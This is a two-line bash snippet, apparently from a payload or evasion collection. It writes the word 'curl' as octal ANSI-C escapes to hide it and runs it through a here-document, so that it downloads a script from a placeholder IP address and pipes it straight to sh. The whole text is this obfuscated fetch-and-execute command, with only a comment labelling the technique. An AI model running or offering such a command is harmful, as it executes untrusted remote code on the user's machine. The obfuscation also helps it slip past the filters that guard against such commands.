# decode-exec: octal ANSI-C quoting of the command and its argument, then run via a here-document
bash <<EOF
$'\143\165\162\154' -s http://203.0.113.7/oct | sh
EOF
